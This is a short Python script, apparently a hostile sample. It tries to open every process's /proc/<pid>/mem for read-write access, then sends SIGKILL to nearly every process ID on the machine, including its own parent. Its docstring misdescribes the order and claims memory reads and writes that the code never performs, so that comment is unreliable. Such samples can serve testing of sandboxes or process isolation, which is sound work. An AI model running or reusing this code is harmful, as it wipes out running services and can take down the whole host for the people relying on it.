"""Signals whoever started it, and everybody else it may; then reads and writes their memory."""

import os
import signal

for number in {os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))} - {0, os.getpid()}:
    try:
        open(f"/proc/{number}/mem", "r+b")
    except OSError:
        pass
for number in range(2, 40_000):
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
